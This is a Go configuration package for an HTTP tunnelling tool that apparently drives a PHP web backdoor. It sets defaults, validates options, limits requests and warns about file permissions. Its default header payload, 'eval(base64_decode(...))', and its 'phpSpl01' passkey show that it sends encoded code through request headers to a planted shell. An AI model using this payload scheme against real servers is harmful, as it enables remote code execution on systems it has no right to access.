// Package config handles TOML settings loading and validation.
package config

import (
	"fmt"
	"log/slog"
	"net/url"
	"os"
	"strings"

	"github.com/alecthomas/kong"
	toml "github.com/pelletier/go-toml/v2"
)

// configSearchPaths lists paths checked in order when no explicit config is given.
var configSearchPaths = []string{
	"/etc/httptunnel/config.toml",
	"configs/config.toml",
}

// PayloadPlaceholder marks where the encoded forwarder goes in RequestConfig.HeaderPayload.
const PayloadPlaceholder = "%%BASE64%%"

// CLI holds command-line arguments parsed by Kong.
type CLI struct {
	Version  kong.VersionFlag `kong:"short='v',help='Print version and exit.'"`
	Config   string           `kong:"short='c',help='Path to TOML config file.',env='CONFIG_PATH'"`
	Target   string           `kong:"short='t',help='Target URL (overrides config).',env='TUNNEL_TARGET'"`
	Passkey  string           `kong:"help='Shared secret key (overrides config).',env='TUNNEL_PASSKEY'"`
	Method   string           `kong:"short='m',help='Default transport method: GET|POST (overrides config).'"`
	LogLevel string           `kong:"help='Log level: debug|info|warn|error (overrides config).',env='LOG_LEVEL'"`
	Files    []string         `kong:"arg,optional,name='file',help='Payload files to run; interactive loop when none given.',type='existingfile'"`
}

// Config is the top-level application configuration.
type Config struct {
	Target      string            `toml:"target"`
	Passkey     string            `toml:"passkey"`
	Proxy       string            `toml:"proxy"`
	WriteTmpdir string            `toml:"write_tmpdir"`
	Request     RequestConfig     `toml:"request"`
	HTTP        map[string]string `toml:"http"`
	Log         LogConfig         `toml:"log"`
	Status      StatusConfig      `toml:"status"`

	filePath string // resolved config file path (unexported)
}

// RequestConfig holds the REQ_* style limits that shape every transfer.
type RequestConfig struct {
	DefaultMethod    string `toml:"default_method"`
	HeaderPayload    string `toml:"header_payload"`
	ZlibTryLimit     int    `toml:"zlib_try_limit"`
	MaxPostSize      int    `toml:"max_post_size"`
	MaxHeaderSize    int    `toml:"max_header_size"`
	MaxHeaders       int    `toml:"max_headers"`
	Interval         string `toml:"interval"` // seconds, "N" or "MIN-MAX"
	RetryWaitSeconds int    `toml:"retry_wait_seconds"`
	TimeoutSeconds   int    `toml:"timeout_seconds"`
	InsecureTLS      bool   `toml:"insecure_tls"`

	interval Interval
}

// LogConfig holds logging settings.
type LogConfig struct {
	Level  string `toml:"level"`
	Format string `toml:"format"`
}

// StatusConfig holds the optional local status server settings.
type StatusConfig struct {
	Enabled     bool            `toml:"enabled"`
	Host        string          `toml:"host"`
	Port        int             `toml:"port"`
	MetricsPath string          `toml:"metrics_path"`
	RateLimit   RateLimitConfig `toml:"rate_limit"`
}

// RateLimitConfig controls per-IP request rate limiting on the status server.
type RateLimitConfig struct {
	Enabled           bool    `toml:"enabled"`
	RequestsPerSecond float64 `toml:"requests_per_second"`
}

// Load reads the TOML config file and applies CLI overrides.
// When no explicit path is given (via --config or CONFIG_PATH), it searches
// /etc/httptunnel/config.toml then configs/config.toml.
func Load(cli *CLI) (*Config, error) {
	path := cli.Config
	if path == "" {
		path = findConfig()
	}
	if path == "" {
		return nil, fmt.Errorf("config: no config file found (searched %v)", configSearchPaths)
	}

	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("config: read %s: %w", path, err)
	}

	var cfg Config
	if err := toml.Unmarshal(data, &cfg); err != nil {
		return nil, fmt.Errorf("config: parse %s: %w", path, err)
	}

	cfg.filePath = path
	cfg.applyCLI(cli)
	cfg.setDefaults()

	if err := cfg.Validate(); err != nil {
		return nil, fmt.Errorf("config: validate: %w", err)
	}
	return &cfg, nil
}

// applyCLI overrides config values with non-zero CLI flags.
func (c *Config) applyCLI(cli *CLI) {
	if cli.Target != "" {
		c.Target = cli.Target
	}
	if cli.Passkey != "" {
		c.Passkey = cli.Passkey
	}
	if cli.Method != "" {
		c.Request.DefaultMethod = cli.Method
	}
	if cli.LogLevel != "" {
		c.Log.Level = cli.LogLevel
	}
}

// Validate checks the configuration and caches parsed derived values.
// It expects defaults to be applied already.
func (c *Config) Validate() error {
	if c.Target == "" {
		return fmt.Errorf("target is required")
	}
	u, err := url.Parse(c.Target)
	if err != nil {
		return fmt.Errorf("target is not a valid URL: %w", err)
	}
	if u.Scheme != "http" && u.Scheme != "https" {
		return fmt.Errorf("target must use http or https; got %q", c.Target)
	}

	if c.Proxy != "" {
		p, err := url.Parse(c.Proxy)
		if err != nil {
			return fmt.Errorf("proxy is not a valid URL: %w", err)
		}
		switch p.Scheme {
		case "http", "https", "socks5", "socks5h":
		default:
			return fmt.Errorf("proxy scheme must be http, https or socks5; got %q", p.Scheme)
		}
	}

	if strings.ContainsAny(c.Passkey, " :\r\n\t'\"%") {
		return fmt.Errorf("passkey must be a valid header name; got %q", c.Passkey)
	}

	switch strings.ToUpper(c.Request.DefaultMethod) {
	case "GET", "POST":
		c.Request.DefaultMethod = strings.ToUpper(c.Request.DefaultMethod)
	default:
		return fmt.Errorf("request.default_method must be GET or POST; got %q", c.Request.DefaultMethod)
	}
	if !strings.Contains(c.Request.HeaderPayload, PayloadPlaceholder) {
		return fmt.Errorf("request.header_payload must contain %s", PayloadPlaceholder)
	}

	// Numeric bounds.
	if c.Request.ZlibTryLimit < 0 {
		return fmt.Errorf("request.zlib_try_limit must be non-negative; got %d", c.Request.ZlibTryLimit)
	}
	if c.Request.MaxPostSize < 0 {
		return fmt.Errorf("request.max_post_size must be non-negative; got %d", c.Request.MaxPostSize)
	}
	if c.Request.MaxHeaderSize < 0 {
		return fmt.Errorf("request.max_header_size must be non-negative; got %d", c.Request.MaxHeaderSize)
	}
	if c.Request.MaxHeaders < 0 {
		return fmt.Errorf("request.max_headers must be non-negative; got %d", c.Request.MaxHeaders)
	}
	if c.Request.TimeoutSeconds < 0 {
		return fmt.Errorf("request.timeout_seconds must be non-negative; got %d", c.Request.TimeoutSeconds)
	}
	iv, err := ParseInterval(c.Request.Interval)
	if err != nil {
		return fmt.Errorf("request.interval: %w", err)
	}
	c.Request.interval = iv

	for name, value := range c.HTTP {
		if HeaderName(name) == "" {
			return fmt.Errorf("http: empty header name")
		}
		if path, ok := strings.CutPrefix(value, "file://"); ok {
			if _, err := os.Stat(path); err != nil {
				return fmt.Errorf("http.%s: %w", name, err)
			}
		}
	}

	// Log fields.
	switch strings.ToLower(c.Log.Level) {
	case "debug", "info", "warn", "error", "":
		// valid
	default:
		return fmt.Errorf("log.level must be one of: debug, info, warn, error; got %q", c.Log.Level)
	}
	switch strings.ToLower(c.Log.Format) {
	case "json", "text", "":
		// valid
	default:
		return fmt.Errorf("log.format must be one of: json, text; got %q", c.Log.Format)
	}

	if c.Status.Port < 0 || c.Status.Port > 65535 {
		return fmt.Errorf("status.port must be 0–65535; got %d", c.Status.Port)
	}
	if c.Status.Enabled && c.Status.RateLimit.Enabled && c.Status.RateLimit.RequestsPerSecond <= 0 {
		return fmt.Errorf("status.rate_limit.requests_per_second must be > 0 when rate limiting is enabled; got %v", c.Status.RateLimit.RequestsPerSecond)
	}
	// Metrics path validation (only when the status server is enabled).
	if c.Status.Enabled && c.Status.MetricsPath != "" {
		p := c.Status.MetricsPath
		if p[0] != '/' {
			return fmt.Errorf("status.metrics_path must start with '/'; got %q", p)
		}
		for _, reserved := range []string{"/healthz", "/tunnel/status"} {
			if p == reserved || strings.HasPrefix(p, reserved+"/") {
				return fmt.Errorf("status.metrics_path %q conflicts with reserved route %q", p, reserved)
			}
		}
	}

	return nil
}

// setDefaults fills zero-valued fields with sensible defaults.
// As with any TOML integer, zero means "unset": a configured limit of 0 falls
// back to the default.
func (c *Config) setDefaults() {
	if c.Passkey == "" {
		c.Passkey = "phpSpl01"
	}
	if c.Request.DefaultMethod == "" {
		c.Request.DefaultMethod = "GET"
	}
	if c.Request.HeaderPayload == "" {
		c.Request.HeaderPayload = "eval(base64_decode(" + PayloadPlaceholder + "))"
	}
	if c.Request.ZlibTryLimit == 0 {
		c.Request.ZlibTryLimit = 20 * 1024 * 1024
	}
	if c.Request.MaxPostSize == 0 {
		c.Request.MaxPostSize = 4 * 1024 * 1024
	}
	if c.Request.MaxHeaderSize == 0 {
		c.Request.MaxHeaderSize = 4 * 1024
	}
	if c.Request.MaxHeaders == 0 {
		c.Request.MaxHeaders = 100
	}
	if c.Request.Interval == "" {
		c.Request.Interval = "1-10"
	}
	if c.Request.RetryWaitSeconds == 0 {
		c.Request.RetryWaitSeconds = 60
	}
	if c.Request.TimeoutSeconds == 0 {
		c.Request.TimeoutSeconds = 60
	}
	if c.Log.Level == "" {
		c.Log.Level = "info"
	}
	if c.Log.Format == "" {
		c.Log.Format = "text"
	}
	if c.Status.Host == "" {
		c.Status.Host = "127.0.0.1"
	}
	if c.Status.Port == 0 {
		c.Status.Port = 8010
	}
	if c.Status.MetricsPath == "" {
		c.Status.MetricsPath = "/metrics"
	}
}

// PauseInterval returns the parsed pause between acknowledged multipart requests.
func (r *RequestConfig) PauseInterval() Interval {
	return r.interval
}

// findConfig returns the first config path that exists, or empty string.
func findConfig() string {
	return findConfigInPaths(configSearchPaths)
}

// findConfigInPaths returns the first path that exists on disk, or empty string.
func findConfigInPaths(paths []string) string {
	for _, p := range paths {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	return ""
}

// Addr returns the status server listen address as host:port.
func (c *StatusConfig) Addr() string {
	return fmt.Sprintf("%s:%d", c.Host, c.Port)
}

// WarnPermissions logs a warning if the config file is readable by group or others.
// The file holds the passkey.
func (c *Config) WarnPermissions(logger *slog.Logger) {
	if c.filePath == "" {
		return
	}
	info, err := os.Stat(c.filePath)
	if err != nil {
		return
	}
	if perm := info.Mode().Perm(); perm&0o077 != 0 {
		logger.Warn("config file is readable by group/others; consider chmod 600",
			"path", c.filePath,
			"mode", fmt.Sprintf("%04o", perm),
		)
	}
}
